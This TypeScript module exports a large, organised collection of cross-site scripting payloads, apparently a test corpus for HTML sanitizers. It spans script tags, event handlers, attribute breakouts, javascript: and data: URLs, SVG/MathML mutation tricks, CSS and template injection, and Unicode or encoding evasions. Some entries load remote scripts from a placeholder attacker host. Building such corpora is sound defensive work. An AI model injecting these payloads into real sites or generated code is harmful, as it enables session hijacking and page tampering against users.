// Texts that would run a script, load something or change a page if anybody took them for markup. Each family is a table
// of shapes; `alert(1)` stands where a script would run, `//evil.invalid` where something would be fetched.

const run = 'alert(1)';
const far = '//evil.invalid/x';

const handlers = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'onblur',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforeinput',
  'oncontentvisibilityautostatechange',
  'onwheel',
];

/** Elements that load or run by themselves. */
const tags = [
  `<script>${run}</script>`,
  `<script src=${far}></script>`,
  `<SCRIPT/XSS SRC="${far}"></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script type=module>${run}</script>`,
  `<script>/*</script><svg onload=${run}>//*/</script>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data=${far}></object>`,
  `<embed src="javascript:${run}">`,
  `<applet code=${far}>`,
  `<base href=${far}>`,
  `<link rel=stylesheet href=${far}>`,
  `<link rel=preload as=script href=${far}>`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="content-security-policy" content="script-src *">`,
  `<form action=${far}><input name=a><button>go</button></form>`,
  `<form><button formaction="javascript:${run}">go</button></form>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><script>${run}</script></textarea>`,
  `<title><img src=x onerror=${run}></title>`,
  `<marquee loop=1 onfinish=${run}>x</marquee>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<portal src=${far}></portal>`,
  `<frameset onload=${run}><frame src=${far}></frameset>`,
];

/** One handler on one element. */
const elements = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'a href=x'];
const events = elements.flatMap((element) =>
  handlers.slice(0, 6).map((handler) => `<${element} ${handler}=${run}>`),
);

/** What stands within an attribute, and leaves it. */
const attributes = ['"', "'", '', '`'].flatMap((quote) => [
  ...handlers.map((handler) => `x${quote} ${handler}=${quote}${run}`),
  `${quote}><script>${run}</script>`,
  `${quote} style=${quote}background:url(${far})`,
  `${quote} autofocus tabindex=1 onfocus=${run} x=${quote}`,
  `${quote} src=${far} ${quote}`,
]);

/** Addresses. */
const urls = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}`,
  `javascript://%0a${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:${far}`,
  far,
  `https:${far}`,
  `\\\\evil.invalid\\x`,
  `/\\evil.invalid`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="${far}" ping="${far}">x</a>`,
  `[x](javascript:${run})`,
  `![x](${far})`,
  `<https:${far}>`,
];

/** SVG and MathML. */
const drawings = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=${far} /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}">`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><image href=${far} /></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${far}";</style></svg>`,
  `<svg><title><style><img src="</style><img src=x onerror=${run}//">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">x</math>`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
];

/** Styles. */
const styles = [
  `<style>@import "${far}";</style>`,
  `<style>*{background:url(${far})}</style>`,
  `<style>input[value^=a]{background:url(${far})}</style>`,
  `</style><script>${run}</script>`,
  `<div style="background:url(${far})">`,
  `<div style="width:expression(${run})">`,
  `<div style="-moz-binding:url(${far})">`,
  `<div style="position:fixed;inset:0;background:red">`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
  `<p style=animation-name:x onanimationstart=${run}>`,
  `red;}body{display:none}`,
  `url(javascript:${run})`,
];

/** Templates that some engine might run. */
const templates = [
  `{{constructor.constructor('${run}')()}}`,
  '{{7*7}}',
  '${7*7}',
  `\${${run}}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '@(7*7)',
  '{%raw%}<script>alert(1)</script>{%endraw%}',
  `<div ng-app ng-csp><p ng-click=$event.view.${run}>`,
  `<div v-html="'<img src=x onerror=${run}>'">`,
  `<x-y onclick={${run}}>`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `[object Object]`,
  `{toString:()=>${run}}`,
];

/** JSON within a script, within an attribute, within an event stream. */
const json = [
  `</script><script>${run}</script>`,
  `<!--<script>`,
  `--><script>${run}</script>`,
  `<!--<script>--></script><img src=x onerror=${run}>`,
  `]]><script>${run}</script>`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `";${run};//`,
  `';${run};//`,
  `\\";${run};//`,
  `\u2028${run}//`,
  `\u2029${run}//`,
  `event: end\ndata: {}`,
  `\n\nevent: end\ndata: {}\n\n`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
];

/** Signs that a parser, a filter or an eye may take for others. */
const signs = [
  `＜script＞${run}＜/script＞`,
  `\u02c2script\u02c3${run}\u02c2/script\u02c3`,
  `<\u200bscript>${run}</script>`,
  `<script\u00a0src=${far}>`,
  `<img\u000bsrc=x\u000bonerror=${run}>`,
  `<img\u000csrc=x\u000conerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<ımg src=x onerror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%253Cscript%253E${run}%253C/script%253E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&amp;lt;script&amp;gt;${run}`,
  `\ufeff<script>${run}</script>`,
  `<script>${run}</script>`.split('').join('\u0301'),
  `<IMG SRC=x ONERROR=&#97;&#108;&#101;&#114;&#116;(1)>`,
  `<img src=x onerror=\\u0061lert(1)>`,
];

/** Names of files and values of headers. */
const names = [
  `"><img src=x onerror=${run}>.py`,
  `x";filename="evil.html`,
  `../../../<script>${run}</script>.zip`,
  `<svg onload=${run}>.svg`,
  `con<script>.py`,
  `Mozilla/5.0 (<script>${run}</script>)`,
  `Mozilla/5.0 <img src=${far}> Chrome/1`,
  `a, <script>${run}</script>;q=1`,
];

export const xssFamilies: Readonly<Record<string, readonly string[]>> = {
  tags,
  events,
  attributes,
  urls,
  drawings,
  styles,
  templates,
  json,
  signs,
  names,
};

/** All of them, each once. */
export const xssPayloads: readonly string[] = [...new Set(Object.values(xssFamilies).flat())];
